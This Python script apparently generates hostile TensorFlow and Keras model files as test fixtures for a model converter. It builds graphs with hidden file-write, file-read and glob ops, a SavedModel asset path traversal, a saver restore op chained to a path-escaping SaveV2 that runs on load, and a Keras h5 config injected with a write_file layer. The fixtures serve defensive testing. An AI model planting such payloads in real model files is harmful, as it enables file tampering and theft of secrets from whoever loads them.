"""Build models that would touch the host when converted (real TF / tf_keras files).

    python models/hostile.py OUT_DIR [TARGET_DIR]

Every file they would write or read is under TARGET_DIR (default OUT_DIR/target), which the
caller owns (tests: their tmp dir). OUT_DIR/
  ckpt_write/, ckpt_save/, ckpt_print/   checkpoints whose output `probs` has a control
                       dependency on WriteFile (TARGET/ckpt_write.txt), SaveV2 (TARGET/ckpt_save)
                       or PrintV2 to file://TARGET/ckpt_print.txt
  ckpt_read/           output `leak` (beside `probs`) = bytes of ReadFile(TARGET/secret.txt)
  ckpt_glob/           output `leak` = bytes of the names MatchingFiles(TARGET/secret*) finds
  frozen_read.pb       frozen graph: `leak` from ReadFile(TARGET/secret.txt)
  sm_write/            TF2 SavedModel whose serving function calls tf.io.write_file
                       (TARGET/sm_write.txt)
  sm_asset/            TF2 SavedModel reading its asset, whose asset_file_def is
                       ../../outside_secret.txt (OUT_DIR/../outside_secret.txt from assets/)
  keras_write.h5       tf_keras model with a TFOpLambda layer `io.write_file` (no Lambda)
Each checkpoint's input is `x` [None, 4].
"""

from __future__ import annotations

import json
import os
import sys

os.environ.setdefault("TF_USE_LEGACY_KERAS", "1")
os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")

import tensorflow as tf  # noqa: E402

v1 = tf.compat.v1
SECRET = b"graphfreeze-secret-42"


def _leak(data, x):
    """The bytes of a string scalar as floats, tied to the input so the output needs `x`."""
    return tf.add(tf.cast(tf.io.decode_raw(data, tf.uint8), tf.float32),
                  0.0 * tf.reduce_sum(x), name="leak")


def checkpoint(out: str, target: str, kind: str) -> None:
    graph = tf.Graph()
    with graph.as_default():
        v1.set_random_seed(0)
        x = v1.placeholder(tf.float32, [None, 4], name="x")
        w = v1.get_variable("dense/kernel", [4, 3])
        logits = tf.matmul(x, w)
        hook = None
        if kind == "write":
            hook = tf.io.write_file(os.path.join(target, "ckpt_write.txt"), "pwned", name="write")
        elif kind == "save":
            hook = tf.raw_ops.SaveV2(prefix=os.path.join(target, "ckpt_save"), tensor_names=["w"],
                                     shape_and_slices=[""], tensors=[w.read_value()],
                                     name="steal")
        elif kind == "print":
            hook = tf.print("pwned", output_stream=f"file://{target}/ckpt_print.txt", name="print")
        elif kind == "read":
            _leak(tf.io.read_file(os.path.join(target, "secret.txt"), name="read"), x)
        elif kind == "glob":
            found = tf.io.matching_files(os.path.join(target, "secret*"), name="glob")
            _leak(tf.strings.reduce_join(found), x)
        with tf.control_dependencies([hook] if hook is not None else []):
            tf.nn.softmax(logits, name="probs")
        saver = v1.train.Saver()
        with v1.Session(graph=graph) as sess:
            sess.run(v1.global_variables_initializer())
            os.makedirs(out, exist_ok=True)
            saver.save(sess, os.path.join(out, "model.ckpt"), global_step=1)


def frozen_read(path: str, target: str) -> None:
    graph = tf.Graph()
    with graph.as_default():
        x = v1.placeholder(tf.float32, [None, 4], name="x")
        _leak(tf.io.read_file(os.path.join(target, "secret.txt"), name="read"), x)
    with open(path, "wb") as f:
        f.write(graph.as_graph_def().SerializeToString())


def sm_write(out: str, target: str) -> None:
    class Writer(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")])
        def serve(self, x):
            tf.io.write_file(os.path.join(target, "sm_write.txt"), tf.strings.as_string(x[0, 0]))
            return {"probs": tf.nn.softmax(x)}

    module = Writer()
    tf.saved_model.save(module, out, signatures={"serving_default": module.serve})


def sm_asset(out: str) -> None:
    """A SavedModel reading its asset; the asset's name is then pointed outside the model."""
    from tensorflow.core.protobuf import saved_model_pb2

    staging = out + ".asset.txt"
    with open(staging, "wb") as f:
        f.write(b"harmless")

    class Reader(tf.Module):
        def __init__(self):
            super().__init__()
            self.asset = tf.saved_model.Asset(staging)

        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")])
        def serve(self, x):
            return {"leak": _leak(tf.io.read_file(self.asset), x)}

    module = Reader()
    tf.saved_model.save(module, out, signatures={"serving_default": module.serve})
    os.remove(staging)
    pb = os.path.join(out, "saved_model.pb")
    proto = saved_model_pb2.SavedModel()
    with open(pb, "rb") as f:
        proto.ParseFromString(f.read())
    for meta in proto.meta_graphs:
        for asset in meta.asset_file_def:
            asset.filename = "../../outside_secret.txt"
    with open(pb, "wb") as f:
        f.write(proto.SerializeToString())


def sm_saver(out: str, target: str) -> None:
    """TF1 SavedModel whose saver's restore op depends on a SaveV2 writing next to TARGET (a path
    made from the saver's own filename, so it looks like the saver's file): runs on loading."""
    graph = tf.Graph()
    with graph.as_default():
        x = v1.placeholder(tf.float32, [None, 4], name="x")
        w = v1.get_variable("w", [4, 3])
        probs = tf.identity(tf.matmul(x, w), name="probs")
        saver = v1.train.Saver()
        filename = graph.get_tensor_by_name(saver.saver_def.filename_tensor_name)
        escape = os.path.relpath(os.path.join(target, "sm_saver"), "/")
        prefix = tf.strings.join([filename, "/../../../../../../../../../../" + escape])
        evil = tf.raw_ops.SaveV2(prefix=prefix, tensor_names=["w"], shape_and_slices=[""],
                                 tensors=[w.read_value()], name="evil")
        graph.get_operation_by_name(saver.saver_def.restore_op_name)._add_control_input(evil)
        with v1.Session(graph=graph) as sess:
            sess.run(v1.global_variables_initializer())
            builder = v1.saved_model.Builder(out)
            builder.add_meta_graph_and_variables(
                sess, ["serve"], saver=saver, signature_def_map={
                    "serving_default": v1.saved_model.predict_signature_def({"x": x},
                                                                            {"probs": probs})})
            builder.save()


def keras_write(path: str, target: str) -> None:
    """A Dense model whose saved config gains a TFOpLambda layer calling tf.io.write_file on
    constants (Keras runs such a layer eagerly while rebuilding the model). Keras cannot build
    that layer itself (write_file has no output tensor), so it is written into the config."""
    import h5py
    import tf_keras

    inputs = tf_keras.Input((4,), name="x")
    tf_keras.Model(inputs, tf_keras.layers.Dense(3, name="probs")(inputs)).save(path)
    with h5py.File(path, "r+") as f:
        config = json.loads(f.attrs["model_config"])
        config["config"]["layers"].append({
            "class_name": "TFOpLambda", "name": "tf.io.write_file",
            "config": {"name": "tf.io.write_file", "trainable": True, "dtype": "float32",
                       "function": "io.write_file"},
            "inbound_nodes": [["_CONSTANT_VALUE", -1, os.path.join(target, "keras_write.txt"),
                               {"contents": "pwned"}]]})
        f.attrs["model_config"] = json.dumps(config)


def build_all(out: str, target: str) -> None:
    os.makedirs(out, exist_ok=True)
    for kind in ("write", "save", "print", "read", "glob"):
        checkpoint(os.path.join(out, f"ckpt_{kind}"), target, kind)
    frozen_read(os.path.join(out, "frozen_read.pb"), target)
    sm_write(os.path.join(out, "sm_write"), target)
    sm_asset(os.path.join(out, "sm_asset"))
    sm_saver(os.path.join(out, "sm_saver"), target)
    keras_write(os.path.join(out, "keras_write.h5"), target)


if __name__ == "__main__":
    out_dir = sys.argv[1]
    build_all(out_dir, sys.argv[2] if len(sys.argv) > 2 else os.path.join(out_dir, "target"))
    print(out_dir)
